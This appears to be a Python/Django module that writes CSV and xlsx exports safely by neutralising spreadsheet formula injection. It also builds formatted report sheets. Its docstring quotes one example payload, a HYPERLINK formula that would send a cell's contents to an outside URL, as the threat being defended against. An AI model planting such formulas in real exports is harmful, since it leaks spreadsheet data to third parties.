"""The one export writer: CSV and xlsx files that never hand data back as a live formula.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a
tab or carriage return, whatever follows) as a formula: an appeal titled
``=HYPERLINK("http://…?"&A1,"x")`` would otherwise reach the leader's Excel as a working link
that leaks the sheet. Every export in the code base writes its cells through this module, which
follows the OWASP advice on CSV injection:

* a text cell starting with one of ``FORMULA_PREFIXES`` gets a leading single quote ``'``
  (Excel shows the text as typed, nothing runs); a text that is just a number (``-3.5``,
  ``+86``, ``-12%``) is left alone: Excel reads it as that number, which runs nothing;
* numbers, dates and other non-text values are written as they are (a negative number stays a
  number cell);
* xlsx cells are never formula cells from data: a neutralised string no longer starts with
  ``=``, so openpyxl stores it as a plain string (``data_type == "s"``); characters an xlsx
  file cannot hold (C0 controls but tab, line feed and carriage return) are dropped instead of
  failing the whole download.

Use ``csv_response`` / ``csv_writer`` for CSV, ``append`` / ``cell`` (openpyxl worksheets),
``table_workbook`` and ``xlsx_response`` for xlsx.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

# A text that is only a number (as Excel would read it): sign, digits, decimals, exponent, percent.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
# What an xlsx (XML 1.0) cell cannot hold; openpyxl raises IllegalCharacterError on these.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(value: object) -> object:
    """``value`` made safe for a spreadsheet cell: a text starting with ``= + - @``, tab or
    carriage return gets a leading ``'``; anything else (numbers included) is returned as is.
    Lazy translations are turned into text first."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def neutralise_row(row: Iterable[object]) -> list[object]:
    return [neutralise(v) for v in row]


# --- CSV ------------------------------------------------------------------------------------------


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``neutralise``, but the columns (0-based)
    listed in ``verbatim``: secrets that must stay byte-exact (a one-time password)."""

    def __init__(self, stream: _Writable, verbatim: Iterable[int] = (), **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)
        self._verbatim = frozenset(verbatim)

    def writerow(self, row: Iterable[object]) -> Any:
        if not self._verbatim:
            return self._writer.writerow(neutralise_row(row))
        return self._writer.writerow([v if i in self._verbatim else neutralise(v) for i, v in enumerate(row)])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable, verbatim: Iterable[int] = (), **fmtparams: Any) -> SafeCsvWriter:
    """A CSV writer on ``stream`` (a file, a StringIO, a management command's stdout)."""
    return SafeCsvWriter(stream, verbatim, **fmtparams)


def neutralised_csv(text: str, verbatim_headers: Iterable[str] = ()) -> str:
    """A CSV file's text rewritten through the safe writer (a file written elsewhere, served
    as a download); columns whose header is in ``verbatim_headers`` are kept as they are. A
    leading BOM is kept."""
    bom = "\ufeff" if text.startswith("\ufeff") else ""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    keep = {i for i, name in enumerate(rows[0] if rows else []) if name in set(verbatim_headers)}
    out = io.StringIO()
    out.write(bom)
    csv_writer(out, keep).writerows(rows)
    return out.getvalue()


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]], *, bom: bool = True) -> str:
    """The whole CSV file as text; with a BOM by default so that Excel opens UTF-8 Chinese."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer = csv_writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_response(filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]) -> HttpResponse:
    """A CSV download (UTF-8 with BOM) of ``header`` and ``rows``."""
    return attachment(HttpResponse(csv_text(header, rows), content_type=CSV_CONTENT_TYPE), filename)


# --- xlsx ----------------------------------------------------------------------------------------


def xlsx_value(value: object) -> object:
    """``neutralise`` plus dropping the characters an xlsx cell cannot hold."""
    value = neutralise(value)
    if isinstance(value, str):
        value = _XLSX_ILLEGAL.sub("", value)
    return value


def xlsx_row(row: Iterable[object]) -> list[object]:
    return [xlsx_value(v) for v in row]


def append(ws: Any, row: Iterable[object]) -> None:
    """``ws.append(row)`` with every cell made safe (normal and write-only worksheets)."""
    ws.append(xlsx_row(row))


def cell(ws: Any, row: int, column: int, value: object) -> Any:
    """``ws.cell(row, column, value)`` with the value made safe; the cell."""
    return ws.cell(row, column, xlsx_value(value))


def workbook_bytes(wb: Any) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def table_workbook(
    title: str, header: Iterable[object], rows: Iterable[Iterable[object]], *, heading: Iterable[str] = ()
) -> bytes:
    """A one-sheet xlsx (write-only, so large exports stream): the header, then the rows. With
    ``heading`` (a report's title and lead lines), those lines come first, then an empty row."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet_title(title))
    lines = [line for line in heading if line]
    for line in lines:
        append(ws, [line])
    if lines:
        ws.append([])
    append(ws, header)
    for row in rows:
        append(ws, row)
    return workbook_bytes(wb)


_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")


def sheet_title(title: object) -> str:
    """A valid sheet name: none of ``[]:*?/\\``, at most 31 characters, never empty."""
    return _SHEET_TITLE_BAD.sub("", str(title))[:31] or "Sheet1"


def report_xlsx(
    title: str, header: Iterable[object], rows: Iterable[Iterable[object]], filename: str, lead: str = ""
) -> HttpResponse:
    """A report's table as an xlsx download: the title, the lead sentence, then the table."""
    return xlsx_response(table_workbook(title, header, rows, heading=(title, lead)), filename)


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    """An xlsx download of workbook bytes (``workbook_bytes``, ``table_workbook``)."""
    return attachment(HttpResponse(content, content_type=XLSX_CONTENT_TYPE), filename)


def attachment(response: HttpResponse, filename: str) -> HttpResponse:
    """Mark ``response`` as a download named ``filename`` (non-ASCII names as RFC 6266 asks)."""
    response["Content-Disposition"] = (
        content_disposition_header(as_attachment=True, filename=filename) or "attachment"
    )
    return response


# --- Leader-layout sheets (领导版): a printed table with its title and date ----------------------------


def leader_sheet(
    title: str, date_line: str, header: Sequence[object], widths: Sequence[float]
) -> tuple[Any, Any]:
    """A workbook whose one sheet starts the way tables for leaders do: the title (16 pt, merged,
    centred), the date line (right-aligned) and the bold header row with the columns' widths.
    Rows go on from row 4; :func:`finish_leader_sheet` closes it."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = sheet_title(title)
    width = len(header)
    append(ws, [title])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
    ws.cell(1, 1).font = Font(size=16, bold=True)
    ws.cell(1, 1).alignment = Alignment(horizontal="center", vertical="center")
    ws.row_dimensions[1].height = 30
    append(ws, [date_line])
    ws.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)
    ws.cell(2, 1).alignment = Alignment(horizontal="right")
    append(ws, header)
    for col, col_width in enumerate(widths, start=1):
        cell = ws.cell(3, col)
        cell.font = Font(bold=True)
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        ws.column_dimensions[cell.column_letter].width = col_width
    return wb, ws


def finish_leader_sheet(
    wb: Any, ws: Any, money_columns: Iterable[int], wrap_columns: Iterable[int] = ()
) -> bytes:
    """Thin borders on the table, money as #,##0.00, rows centred vertically (``wrap_columns``
    wrapped), panes frozen below the header and after the second column, the header repeated on
    every printed page, landscape and one page wide; the file's bytes."""
    from openpyxl.styles import Alignment, Border, Side

    thin = Side(style="thin")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    money, wrap = set(money_columns), set(wrap_columns)
    for row in ws.iter_rows(min_row=3, max_row=ws.max_row):
        for cell in row:
            cell.border = border
            if cell.row == 3:
                continue
            if cell.column in money:
                cell.number_format = "#,##0.00"
            cell.alignment = Alignment(vertical="center", wrap_text=cell.column in wrap)
    ws.freeze_panes = "C4"
    ws.print_title_rows = "3:3"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.fitToWidth = 1
    return workbook_bytes(wb)
